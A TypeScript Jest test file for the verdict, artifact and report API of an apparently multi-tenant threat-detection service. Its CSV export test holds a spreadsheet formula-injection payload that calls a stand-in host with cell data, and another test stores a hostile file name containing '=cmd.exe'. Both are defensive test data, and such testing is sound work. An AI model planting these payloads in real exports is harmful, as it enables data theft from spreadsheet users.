import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { randomUUID } from 'node:crypto';
import { z } from 'zod';
import type { DecisionRecord } from '../../../contracts/decision.ts';
import {
  artifactViewSchema,
  decisionViewSchema,
  listOf,
  reportViewSchema,
  verdictItemSchema,
  verdictViewSchema,
} from '../../../contracts/http.ts';
import {
  acceptedReport,
  decisionFor,
  fileKey,
  newDevice,
  newTenant,
  revocationFor,
  scoreOf,
  verdictFor,
} from '../../support/history.ts';
import { startQuery, type Json, type QueryFixture, type TestTenant } from './fixture.ts';

let query: QueryFixture;
let north: TestTenant;
let south: TestTenant;

beforeAll(async () => {
  query = await startQuery();
  north = await query.createTenant('North');
  south = await query.createTenant('South');
}, 60_000);
afterAll(() => query.stop());

async function idsOf(tenant: TestTenant, parameters: string): Promise<readonly string[]> {
  const reply = await query.get(tenant.viewer, `/v1/verdicts?${parameters}`);
  expect(reply.status).toBe(200);
  return listOf(verdictItemSchema)
    .parse(reply.json)
    .items.map((item) => item.decisionId);
}

/** Decisions of one report each, all on the same artifact, so that a test finds only its own. */
async function decide(tenant: TestTenant, count: number, more: Partial<DecisionRecord> = {}) {
  const key = fileKey(randomUUID());
  const reports = Array.from({ length: count }, () => acceptedReport({ tenantId: tenant.id, key }));
  const decisions = reports.map((report, n) => decisionFor(report, { revision: n + 1, ...more }));
  await query.record({ reports, decisions });
  return { key, reports, decisions };
}

describe('the list of verdicts', () => {
  test('pages are newest first, never shift, and meet each decision once', async () => {
    const { key, decisions } = await decide(north, 25);
    const seen: string[] = [];
    let path = `/v1/verdicts?artifact=${key}&limit=7`;
    for (let after: string | null = ''; after !== null;) {
      const reply = await query.get(north.viewer, after === '' ? path : `${path}&after=${after}`);
      const page = listOf(verdictItemSchema).parse(reply.json);
      seen.push(...page.items.map((item) => item.decisionId));
      after = page.next;
      // What comes in meanwhile is newer than every page to come.
      await query.record({ decisions: [decisionFor(acceptedReport({ tenantId: north.id, key }))] });
    }
    expect(seen).toHaveLength(25);
    expect(new Set(seen)).toEqual(new Set(decisions.map(({ decisionId }) => decisionId)));
    path = `/v1/verdicts?artifact=${key}&limit=100`;
    expect((await query.get(north.viewer, path)).json.items).toHaveLength(29);
  });

  test('a repeated filter is or, different ones are and; every filter is exact', async () => {
    const key = fileKey(randomUUID());
    const device = newDevice();
    const accepted = acceptedReport({ tenantId: north.id, key, deviceId: device });
    const bad = decisionFor(accepted, { severity: 'high', threatName: 'Trojan:Win32/Impact.A!ml' });
    const dull = decisionFor(acceptedReport({ tenantId: north.id, key }), {
      verdict: 'no-threats-found',
      action: 'allow',
      severity: 'informational',
      revision: 0,
      reach: 'device',
      scores: [scoreOf(accepted, 0.01, 'rules')],
    });
    await query.record({ reports: [accepted], decisions: [bad, dull] });
    const both = [dull.decisionId, bad.decisionId].sort();
    const ask = async (filter: string) => [...(await idsOf(north, `artifact=${key}&${filter}`))].sort();
    expect(await ask('kind=file')).toEqual(both);
    expect(await ask('verdict=malicious&verdict=no-threats-found')).toEqual(both);
    for (const filter of [
      'verdict=malicious',
      'severity=high',
      'action=block-and-remediate',
      'reach=tenant',
      'classifier=metadata',
      `device=${device}`,
      `threatName=${encodeURIComponent('Trojan:Win32/Impact.A!ml')}`,
      'verdict=malicious&verdict=suspicious&severity=high',
    ])
      expect(await ask(filter)).toEqual([bad.decisionId]);
    expect(await ask('detectionSource=antivirus')).toEqual(both);
    expect(await ask('verdict=malicious&severity=low')).toEqual([]);
    expect(await ask('kind=domain')).toEqual([]);
    expect(await ask('threatName=%00')).toEqual([]);
  });

  test('`artifact` takes a key and any hash that the tenant has seen with it', async () => {
    const [sha1, md5] = [randomUUID(), randomUUID()].map((id) => id.replaceAll('-', ''));
    const key = fileKey(randomUUID());
    const sha256 = key.slice(12);
    const hash = { sha256, sha1: `${sha1}01234567`, md5 };
    const accepted = acceptedReport({
      tenantId: north.id,
      key,
      report: { artifact: { kind: 'file', hash } },
    });
    const decision = decisionFor(accepted);
    await query.record({ reports: [accepted], decisions: [decision] });
    for (const text of [key, sha256, sha256.toUpperCase(), hash.sha1, md5])
      expect(await idsOf(north, `artifact=${text}`)).toEqual([decision.decisionId]);
    expect(await idsOf(south, `artifact=${md5}`)).toEqual([]);
  });

  test('`from` is inclusive, `to` exclusive, by when it was recorded', async () => {
    const { key, decisions } = await decide(north, 1);
    const [item] = (await query.get(north.viewer, `/v1/verdicts?artifact=${key}`)).json.items;
    const at = encodeURIComponent(z.string().parse(item?.['recordedAt']));
    expect(await idsOf(north, `artifact=${key}&from=${at}`)).toEqual([decisions[0]?.decisionId]);
    expect(await idsOf(north, `artifact=${key}&to=${at}`)).toEqual([]);
  });

  test.each([
    ['/v1/verdicts?unknown=1', 'FB_QUERY_INVALID'],
    ['/v1/verdicts?limit=0', 'FB_QUERY_INVALID'],
    ['/v1/verdicts?limit=10001', 'FB_QUERY_INVALID'],
    ['/v1/verdicts?verdict=evil', 'FB_QUERY_INVALID'],
    ['/v1/verdicts?from=yesterday', 'FB_QUERY_INVALID'],
    ['/v1/verdicts?after=nonsense', 'FB_CURSOR_INVALID'],
    ['/v1/verdicts?after=WyJ4Il0', 'FB_CURSOR_INVALID'],
    ['/v1/artifacts', 'FB_QUERY_INVALID'],
    ['/v1/artifacts/nonsense', 'FB_QUERY_INVALID'],
    ['/v1/verdicts/nonsense', 'FB_QUERY_INVALID'],
  ])('%s is refused as %s', async (path, code) => {
    const reply = await query.get(north.viewer, path);
    expect([reply.status, reply.json.code]).toEqual([400, code]);
  });

  test('a cursor of other filters, another list or another tenant is refused', async () => {
    const { key } = await decide(north, 3);
    await decide(south, 3);
    const { next } = (await query.get(north.viewer, `/v1/verdicts?artifact=${key}&limit=1`)).json;
    const paths: readonly [TestTenant, string][] = [
      [north, `/v1/verdicts?limit=1&after=${next}`],
      [north, `/v1/reports?artifact=${key}&limit=1&after=${next}`],
      [south, `/v1/verdicts?artifact=${key}&limit=1&after=${next}`],
    ];
    for (const [tenant, path] of paths)
      expect((await query.get(tenant.viewer, path)).json.code).toBe('FB_CURSOR_INVALID');
  });
});

describe('exports', () => {
  test('CSV quotes, keeps formulas from running, and names the next page', async () => {
    const key = fileKey(randomUUID());
    const name = '=HYPERLINK("http://x/"&A1,"a")\r\n,b.exe';
    const accepted = acceptedReport({ tenantId: north.id, key, report: { file: { name } } });
    await query.record({
      reports: [accepted],
      decisions: [decisionFor(accepted), decisionFor(accepted, { fileName: '-2+3' })],
    });
    const first = await query.get(north.viewer, `/v1/verdicts?artifact=${key}&limit=1`, {
      accept: 'text/csv',
    });
    expect(first.headers.get('content-type')).toMatch(/^text\/csv/);
    const next = /^<([^>]+)>; rel="next"$/.exec(first.headers.get('link') ?? '')?.[1] ?? '';
    const second = await query.get(north.viewer, next, { accept: 'text/csv' });
    const text = first.text + second.text;
    expect(text).toContain(`"'=HYPERLINK(""http://x/""&A1,""a"")\r\n,b.exe"`);
    expect(text).toContain(`,'-2+3,`);
    expect(second.headers.get('link')).toBeNull();
    expect(first.text.startsWith('recordedAt,decidedAt,')).toBe(true);
  });

  test('NDJSON is one verdict a line', async () => {
    const { key } = await decide(north, 3);
    const reply = await query.get(north.viewer, `/v1/verdicts?artifact=${key}`, {
      accept: 'application/x-ndjson',
    });
    const items = reply.text
      .trimEnd()
      .split('\n')
      .map((line) => verdictItemSchema.parse(JSON.parse(line)));
    expect(items).toHaveLength(3);
  });
});

describe('one verdict', () => {
  test('shows its revisions and what is in force', async () => {
    const { decisions } = await decide(north, 2);
    const [first, second] = decisions;
    if (first === undefined || second === undefined) throw new Error('two decisions');
    await query.record({ verdicts: [verdictFor(second)] });
    const reply = await query.get(north.viewer, `/v1/verdicts/${first.entryId}`);
    const view = verdictViewSchema.parse(reply.json);
    expect(view.revisions.map(({ revision }) => revision).sort()).toEqual([1, 2]);
    expect(view.current).toMatchObject({ revision: 2, id: second.entryId });
    await query.record({ verdicts: [revocationFor(second)] });
    const later = verdictViewSchema.parse(
      (await query.get(north.viewer, `/v1/verdicts/${first.entryId}`)).json,
    );
    expect([later.inForce, later.current]).toEqual([false, null]);
  });

  test('a revision tells every term, and the sum in words', async () => {
    const { decisions } = await decide(north, 1);
    const [decision] = decisions;
    const reply = await query.get(north.viewer, `/v1/verdicts/${decision?.entryId}/revisions/1`);
    const view = decisionViewSchema.parse(reply.json);
    expect(view.terms).toEqual(decision?.terms);
    expect(view.scores).toEqual(decision?.scores);
    expect(view.sumText).toContain('metadata says so');
    expect(view.terms.reduce((sum, term) => sum + term.micronats, 0)).toBe(decision?.sumMicronats);
    const missing = await query.get(north.viewer, `/v1/verdicts/${decision?.entryId}/revisions/9`);
    expect(missing.status).toBe(404);
  });
});

describe('what another tenant may know', () => {
  async function wideDecision() {
    const key = fileKey(randomUUID());
    const accepted = acceptedReport({
      tenantId: north.id,
      key,
      report: { file: { name: 'north-secret.exe', path: 'C:\\north\\secret' } },
    });
    const foreign = acceptedReport({ tenantId: newTenant(), key });
    const decision = decisionFor(accepted, {
      reach: 'ecosystem',
      scores: [scoreOf(accepted, 0.97), scoreOf(foreign, 0.5)],
      terms: [
        { name: 'prior', micronats: -2_197_225, content: true, own: true, text: 'prior' },
        { name: 'score:metadata', micronats: 4_000_000, content: false, own: true, text: 'north evidence' },
        { name: 'others:confirmed', micronats: 1_097_225, content: false, own: false, text: 'others' },
      ],
      signals: {
        firstSeenAt: accepted.acceptedAt,
        lastSeenAt: accepted.acceptedAt,
        devices: 17,
        tenants: 2,
        ownDevices: 5,
        confirmations: [{ trust: 'established', own: false, micronats: 1_097_225 }],
      },
    });
    await query.record({ reports: [accepted], decisions: [decision], verdicts: [verdictFor(decision)] });
    return { key, accepted, decision };
  }

  test('a tenant decision is its tenant’s alone', async () => {
    const { key, decisions, reports } = await decide(north, 1);
    const accepted = acceptedReport({ tenantId: south.id, key });
    await query.record({ reports: [accepted], verdicts: decisions.map((decision) => verdictFor(decision)) });
    expect(await idsOf(south, `artifact=${key}`)).toEqual([]);
    for (const path of [
      `/v1/verdicts/${decisions[0]?.entryId}`,
      `/v1/verdicts/${decisions[0]?.entryId}/revisions/1`,
      `/v1/reports/${reports[0]?.report.id}`,
    ]) {
      const reply = await query.get(south.viewer, path);
      expect([path, reply.status, reply.json.code]).toEqual([path, 404, 'FB_NOT_FOUND']);
    }
    const view = artifactViewSchema.parse((await query.get(south.viewer, `/v1/artifacts/${key}`)).json);
    expect([view.inForce, view.timeline, view.reports.length]).toEqual([[], [], 1]);
  });

  test('a wide decision is seen by who saw the artifact, without anything of where it came from', async () => {
    const { key, accepted, decision } = await wideDecision();
    expect(await idsOf(south, `artifact=${key}`)).toEqual([]);
    expect((await query.get(south.viewer, `/v1/verdicts/${decision.entryId}`)).status).toBe(404);
    const seen = acceptedReport({ tenantId: south.id, key, report: { file: { name: 'south-name.exe' } } });
    await query.record({ reports: [seen] });

    const listed = await query.get(south.viewer, `/v1/verdicts?artifact=${key}`);
    const one = await query.get(south.viewer, `/v1/verdicts/${decision.entryId}`);
    const record = await query.get(south.viewer, `/v1/verdicts/${decision.entryId}/revisions/1`);
    const artifact = await query.get(south.viewer, `/v1/artifacts/${key}`);
    for (const reply of [listed, one, record, artifact]) {
      expect(reply.status).toBe(200);
      const secrets = [accepted.tenantId, accepted.deviceId, accepted.report.id, 'north', 'secret'];
      for (const secret of secrets) expect(reply.text).not.toContain(secret);
    }
    expect(listed.json.items[0]).toMatchObject({
      fileName: 'south-name.exe',
      deviceId: null,
      reportId: null,
    });
    const view = decisionViewSchema.parse(record.json);
    expect(view.terms.map(({ name, micronats }) => [name, micronats])).toEqual([
      ['prior', -2_197_225],
      ['others', 5_097_225],
    ]);
    expect(view.scores).toEqual([]);
    expect(view.signals).toMatchObject({ devices: 0, tenants: 0, firstSeenAt: null, confirmations: [] });
    expect(await idsOf(south, `artifact=${key}&device=${accepted.deviceId}`)).toEqual([]);
    expect(await idsOf(south, `artifact=${key}&reach=ecosystem`)).toEqual([decision.decisionId]);
  });

  test('its own tenant sees its part; the others are one sum without counts below three tenants', async () => {
    const { decision } = await wideDecision();
    const reply = await query.get(north.viewer, `/v1/verdicts/${decision.entryId}/revisions/1`);
    const view = decisionViewSchema.parse(reply.json);
    expect(view.terms.map(({ name }) => name)).toEqual(['prior', 'score:metadata', 'others']);
    expect(view.terms.reduce((sum, term) => sum + term.micronats, 0)).toBe(decision.sumMicronats);
    expect(view.scores).toHaveLength(1);
    expect(view.signals).toMatchObject({ devices: 5, tenants: 1, ownDevices: 5 });
    expect(view.steps.find(({ step }) => step === 'blast-radius')?.text).toBe('');
  });

  test('counts of all tenants are told from three on', async () => {
    const key = fileKey(randomUUID());
    const at = async (): Promise<Json> => (await query.get(south.viewer, `/v1/artifacts/${key}`)).json;
    await query.record({ reports: [south, north].map(({ id }) => acceptedReport({ tenantId: id, key })) });
    expect(artifactViewSchema.parse(await at()).ecosystem).toBeNull();
    await query.record({ reports: [acceptedReport({ tenantId: newTenant(), key })] });
    const view = artifactViewSchema.parse(await at());
    expect(view.ecosystem).toMatchObject({ tenants: 3, devices: 3 });
    expect(view.own).toMatchObject({ devices: 1 });
  });
});

describe('artifacts and reports', () => {
  test('an artifact page brings names, hashes, signer, relations, reports, what is in force', async () => {
    const device = await query.createDevice(north.id);
    const key = fileKey(randomUUID());
    const parent = fileKey(randomUUID());
    const reports = ['A.exe', 'B.exe', 'B.exe'].map((name) =>
      acceptedReport({
        tenantId: north.id,
        deviceId: device,
        key,
        report: {
          file: { name, code_signature: { subject_name: 'Contoso Ltd' }, hash: { md5: '0'.repeat(32) } },
          process: { hash: { sha256: key.slice(12) }, parent: { hash: { sha256: parent.slice(12) } } },
          destination: { domain: 'EXAMPLE.org.', ip: '::ffff:1.2.3.4' },
        },
      }),
    );
    const decision = decisionFor(reports[0] ?? acceptedReport({ tenantId: north.id }));
    await query.record({ reports, decisions: [decision], verdicts: [verdictFor(decision)] });
    const view = artifactViewSchema.parse((await query.get(north.viewer, `/v1/artifacts/${key}`)).json);
    expect(view.fileNames).toEqual(['B.exe', 'A.exe']);
    expect(view.hashes).toEqual({ sha256: key.slice(12), md5: '0'.repeat(32) });
    expect(view.signer).toBe('Contoso Ltd');
    expect(view.own.devices).toBe(1);
    expect(view.inForce.map(({ id }) => id)).toEqual([decision.entryId]);
    expect(view.timeline).toHaveLength(1);
    expect(view.reports).toHaveLength(3);
    expect(view.relations).toEqual([
      { relation: 'parent-image', key: parent },
      { relation: 'destination', key: 'domain:example.org' },
      { relation: 'destination', key: 'ip:1.2.3.4' },
    ]);

    for (const filter of ['fileName=b.EXE', 'signer=contoso+ltd', `hash=${key.slice(12)}`]) {
      const found = (await query.get(north.viewer, `/v1/artifacts?${filter}`)).json;
      expect(found.items).toContainEqual(expect.objectContaining({ key, kind: 'file' }));
      expect((await query.get(south.viewer, `/v1/artifacts?${filter}`)).json.items).toEqual([]);
    }
    const devices = (await query.get(north.viewer, `/v1/artifacts/${key}/devices`)).json;
    expect(devices.items).toMatchObject([{ deviceId: device, hostName: 'PC-1', reports: 3 }]);
    expect((await query.get(north.viewer, `/v1/artifacts/${fileKey('nobody')}`)).status).toBe(404);
  });

  test('lists of artifacts and devices page without loss', async () => {
    const key = fileKey(randomUUID());
    const name = `${randomUUID()}.exe`;
    await query.record({
      reports: Array.from({ length: 11 }, (_, n) =>
        acceptedReport({
          tenantId: north.id,
          key: n % 2 === 0 ? key : fileKey(randomUUID()),
          report: { file: { name } },
        }),
      ),
    });
    expect(await walk(`/v1/artifacts?fileName=${name}&limit=2`, 'key')).toHaveLength(6);
    expect(await walk(`/v1/artifacts/${key}/devices?limit=4`, 'deviceId')).toHaveLength(6);
    expect(await walk(`/v1/reports?artifact=${key}&limit=4`, 'id')).toHaveLength(6);
  });

  test('a person reads the whole report, with hostile text as it came, and the verdict on it', async () => {
    const name = 'a\u0000\ud800"=cmd.exe';
    const accepted = acceptedReport({ tenantId: north.id, report: { file: { name } } });
    await query.record({ reports: [accepted] });
    const path = `/v1/reports/${accepted.report.id}`;
    const open = reportViewSchema.parse((await query.get(north.viewer, path)).json);
    expect(open.verdict).toBe('pending');
    expect(open.report.file?.name).toBe(name);
    const decision = decisionFor(accepted);
    await query.record({ decisions: [decision], verdicts: [verdictFor(decision)] });
    expect((await query.get(north.viewer, path)).json['verdict']).toBe('malicious');
  });
});

async function walk(path: string, field: string): Promise<readonly string[]> {
  const seen = new Set<string>();
  for (let after: string | null = null; ;) {
    const reply: Json = (await query.get(north.viewer, after === null ? path : `${path}&after=${after}`))
      .json;
    for (const item of reply.items) seen.add(z.string().parse(item[field]));
    after = reply.next;
    if (after === null) return [...seen];
  }
}
